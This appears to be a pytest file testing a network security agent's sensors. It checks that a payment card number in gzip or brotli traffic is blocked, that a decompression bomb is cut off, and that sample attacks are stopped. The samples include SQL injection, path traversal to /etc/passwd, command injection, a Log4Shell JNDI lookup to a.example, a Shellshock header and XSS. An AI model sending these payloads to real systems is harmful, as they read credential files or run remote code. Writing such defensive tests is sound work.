"""Sensors on bodies of real traffic: nginx with gzip, a server of brotli, uploads that are compressed, a bomb."""

from __future__ import annotations

import gzip
import json

import pytest

from tests import packets
from tests.lab.net import traffic
from tests.lab.net.traffic import Program
from tests.lab.pace import wait_for

IPS = {"ipv4": packets.pod_one_ip4, "ipv6": packets.pod_one_ip6}
BROTLI = 8080
CONF = """daemon off; master_process off; user root; pid {at}/pid; error_log /dev/null;
events {{}}
http {{ access_log off; client_body_temp_path {at}/body; client_max_body_size 100m;
gzip on; gzip_types *; gzip_min_length 1;
server {{ listen 80; listen [::]:80; root {at};
location /bomb {{ gzip off; default_type text/plain; add_header Content-Encoding gzip; }}
location /put/ {{ alias {at}/; dav_methods PUT; }} }} }}
"""
ROWS = "".join(
    f"{number};Name {number};{number * 7919 % 10**9}\n" for number in range(20_000)
)
CARD = "4111 1111 1111 1111"
CARDS = f"{ROWS}99;A. Smith;{CARD}\n{ROWS}"
NEAR = f"{ROWS}99;A. Smith;4111 1111 1111 1112\n{ROWS}"
# Answers with the file that is asked for, compressed by the library that libbrotli1 has.
_BROTLI = """
import ctypes
ip, port, folder = sys.argv[1], int(sys.argv[2]), sys.argv[3]
library = ctypes.CDLL("libbrotlienc.so.1")
def coded(data):
    size = ctypes.c_size_t(len(data) * 2 + 1024)
    out = ctypes.create_string_buffer(size.value)
    library.BrotliEncoderCompress(5, 22, 0, ctypes.c_size_t(len(data)), data, ctypes.byref(size), out)
    return out.raw[:size.value]
listener = socket.socket(family(ip)); listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind((ip, port)); listener.listen(8); say(ready=True)
while True:
    peer, _ = listener.accept()
    asked = b""
    while b"\\r\\n\\r\\n" not in asked: asked += peer.recv(65536)
    body = coded(open(folder + asked.split()[1].decode(), "rb").read())
    head = f"HTTP/1.1 200 OK\\r\\nContent-Encoding: br\\r\\nContent-Length: {len(body)}\\r\\nConnection: close\\r\\n\\r\\n"
    try:
        peer.sendall(head.encode() + body)
        peer.recv(1)
    except OSError:
        pass
    peer.close()
"""


@pytest.fixture
def served(lab, agent, tmp_path):
    """(web, client): nginx, which compresses all, and a server of brotli on an attached workload."""
    _host, (web, client) = lab.pods()
    conf = tmp_path / "nginx.conf"
    conf.write_text(CONF.format(at=tmp_path))
    (tmp_path / "cards").write_text(CARDS)
    (tmp_path / "near").write_text(NEAR)
    (tmp_path / "bomb").write_bytes(gzip.compress(bytes(80_000_000)))
    web.spawn("nginx", "-c", str(conf), "-p", str(tmp_path), stdout=-3, stderr=-3)
    for ip in IPS.values():
        assert Program(web, _BROTLI, ip, str(BROTLI), str(tmp_path)).heard()["ready"]
    wait_for(lambda: traffic.tcp_try(client, IPS["ipv4"], 80) == "open")
    agent.attach(web, "web")
    return web, client


def policy(agent, *sets: str, action: str = "drop", mode: str = "protect") -> None:
    agent.policy(
        f"groups: {{web: {{selector: {{name: web}}}}}}\nmodes: {{web: {mode}}}\n"
        f"sensors:\n  data: {{use: [{', '.join(sets)}], groups: {{web: {action}}}}}\n"
        "rules:\n  - {id: 1, from: any, to: web, action: allow}\n"
    )


def curl(client, *args: str):
    return client.run("curl", "-s", "-g", "--max-time", "4", *args, check=False)


def url(ip: str, path: str, port: int = 80) -> str:
    host = f"[{ip}]" if ":" in ip else ip
    return f"http://{host}:{port}{path}"


def told(agent) -> list[dict]:
    return json.loads(agent.cli("events", "-o", "json", "--kind", "sensor").stdout)[
        "events"
    ]


@pytest.mark.parametrize("port", [80, BROTLI], ids=["gzip", "br"])
@pytest.mark.parametrize("ip", IPS.values(), ids=IPS)
def test_a_card_in_a_compressed_download_does_not_get_through(served, agent, ip, port):
    _web, client = served
    policy(agent, "payment_cards", action="reset")
    found = curl(client, "--compressed", url(ip, "/near", port))
    assert found.stdout == NEAR, "a number with a wrong check digit passes"
    assert not told(agent)
    found = curl(client, "--compressed", url(ip, "/cards", port))
    assert found.returncode != 0
    assert CARD not in found.stdout
    (event,) = wait_for(lambda: told(agent))
    assert event["reason"] == "data/card-body"
    assert CARD not in json.dumps(event)


def test_nginx_did_compress_it(served, agent):
    """The two tests above would pass without a decoder otherwise."""
    _web, client = served
    found = curl(
        client,
        "-H",
        "Accept-Encoding: gzip",
        "-D",
        "-",
        "-o",
        "/dev/null",
        url(IPS["ipv4"], "/near"),
    )
    assert "content-encoding: gzip" in found.stdout.lower()


@pytest.mark.parametrize("ip", IPS.values(), ids=IPS)
def test_a_compressed_upload_is_looked_into(served, agent, ip, tmp_path):
    _web, client = served
    policy(agent, "payment_cards", action="reset")
    for name, text in (("near", NEAR), ("cards", CARDS)):
        (tmp_path / f"{name}.gz").write_bytes(gzip.compress(text.encode()))
    upload = ("-H", "Content-Encoding: gzip", "-T")
    passed = curl(client, *upload, str(tmp_path / "near.gz"), url(ip, "/put/one"))
    assert passed.returncode == 0
    denied = curl(client, *upload, str(tmp_path / "cards.gz"), url(ip, "/put/two"))
    assert denied.returncode != 0
    assert (tmp_path / "one").exists()
    assert not (tmp_path / "two").exists()


@pytest.mark.parametrize("ip", IPS.values(), ids=IPS)
def test_a_bomb_ends(served, agent, ip, tmp_path):
    _web, client = served
    policy(agent, "payment_cards", action="reset")
    size = (tmp_path / "bomb").stat().st_size
    found = curl(
        client, "-o", str(tmp_path / "got"), "-w", "%{size_download}", url(ip, "/bomb")
    )
    assert found.returncode != 0
    assert int(found.stdout) < size
    (event,) = wait_for(lambda: told(agent))
    assert event["reason"] == "@body/bomb"
    assert event["severity"] == "high"


def test_a_workload_that_may_only_be_told_gets_all(served, agent):
    _web, client = served
    policy(agent, "payment_cards", mode="discover")
    found = curl(client, "--compressed", url(IPS["ipv4"], "/cards"))
    assert found.stdout == CARDS
    assert [one["reason"] for one in wait_for(lambda: told(agent))] == [
        "data/card-body"
    ]


ATTACKS = {
    "sql_injection": ("/near?id=1%27+or+%271%27=%271",),
    "path_traversal": ("--path-as-is", "/near?f=..%252f..%252fetc%252fpasswd"),
    "command_injection": ("/near?host=a;cat%20/etc/passwd",),
    "log4shell": ("-A", "${${lower:j}ndi:ldap://a.example/x}", "/near"),
    "shellshock": ("-A", "() { :;}; /bin/id", "/near"),
    "xss": ("-d", "q=%3Cscript%3Ealert(1)%3C/script%3E", "/near"),
}


def test_shipped_sets_of_attacks_end_requests_and_no_others(served, agent):
    _web, client = served
    policy(agent, *ATTACKS, action="reset")
    good = url(IPS["ipv4"], "/near?id=1&q=O%27Brien+or+a+union")
    assert curl(client, "--compressed", good).stdout == NEAR
    for name, (*options, path) in ATTACKS.items():
        assert curl(client, *options, url(IPS["ipv4"], path)).returncode != 0, name
    found = wait_for(
        lambda: len(seen := {one["reason"] for one in told(agent)}) >= 6 and seen
    )
    assert all(one.startswith("data/") for one in found)
